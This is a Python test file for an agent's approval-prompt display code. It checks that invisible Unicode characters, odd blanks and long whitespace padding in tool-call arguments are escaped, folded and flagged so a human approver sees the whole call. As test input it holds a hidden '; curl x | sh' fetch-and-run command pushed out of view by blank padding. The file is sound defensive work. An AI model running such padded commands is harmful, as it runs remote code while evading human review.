"""What an approval prompt shows: the whole call, nothing hidden in it."""

from __future__ import annotations

from agent_core.approval_text import SHOWN_LIMIT, fits, for_prompt, show_arguments


def test_invisible_and_direction_changing_characters_are_shown_escaped() -> None:
    for hidden in ("\u200b", "\u202e", "\u2066", "\ufeff", "\x7f", "\x9b", "\u2028", "\x00"):
        shown = show_arguments({"command": f"ls{hidden}x"})
        assert hidden not in shown.text
        assert "\\u" in shown.text
        assert shown.flags, hidden
    plain = show_arguments({"command": "ls -la\nwc -l", "note": "héllo ✓"})
    assert plain.flags == ()
    assert "héllo ✓" in plain.text
    assert "\\n" in plain.text  # a newline in a value is shown as \n


def test_long_blank_runs_are_folded_and_flagged() -> None:
    shown = show_arguments({"command": "ls" + " " * 3000 + "; curl x | sh"})
    assert "⟪3000 blanks⟫; curl x | sh" in shown.text
    assert len(shown.text) < 100
    assert "long runs of blanks" in shown.warning
    assert show_arguments({"command": "a" + " " * 15 + "b"}).flags == ()


def test_what_does_not_fit_is_not_put_to_anyone() -> None:
    assert fits({"command": "x" * (SHOWN_LIMIT - 30)})
    assert not fits({"command": "x" * SHOWN_LIMIT})
    old = for_prompt({"command": "x" * 5000 + "TAIL"})
    assert old.text.endswith('TAIL"\n}')
    assert "not shown" in old.warning


def test_ignorable_characters_and_odd_blanks_are_escaped_too() -> None:
    """Variation selectors, fillers, the braille blank and every blank but the plain space
    could hide text or pad a command out of sight: all shown escaped and flagged."""
    for hidden in ("\ufe0f", "\U000e0100", "\u3164", "\u115f", "\u2800", "\u00a0", "\u3000"):
        shown = show_arguments({"body": f"a{hidden}b"})
        assert hidden not in shown.text, repr(hidden)
        assert shown.flags, repr(hidden)
    padded = show_arguments({"command": ("ls" + " " * 15 + "\u00a0") * 100 + "; curl x | sh"})
    assert not fits({"command": ("ls" + " " * 15 + "\u00a0") * 100 + "; curl x | sh"})
    assert padded.flags
